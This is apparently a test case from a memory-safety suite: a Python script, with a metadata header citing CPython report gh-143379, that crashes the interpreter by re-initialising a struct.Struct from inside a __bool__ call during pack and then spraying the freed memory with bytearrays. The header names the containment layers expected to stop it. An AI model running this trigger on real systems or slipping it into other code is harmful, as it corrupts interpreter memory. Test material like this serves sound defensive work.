# id: struct-pack-reinit
# family: memory-safety
# kind: crash
# invariant: A, G
# origin: CPython report gh-143379
# technique: packing a bool calls __bool__, which gives the Struct a new format and frees the table that is being walked
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: process, supervisor, seccomp
# fix: structural
# alive-when: crash

import struct


class Flag:
    def __bool__(self):
        packer.__init__("i" * 3)
        kept.extend(bytearray(b"\xff" * 4096) for _ in range(200))
        return True


kept = []
packer = struct.Struct("?" + "xi" * 50)
packer.pack(Flag(), *range(50))
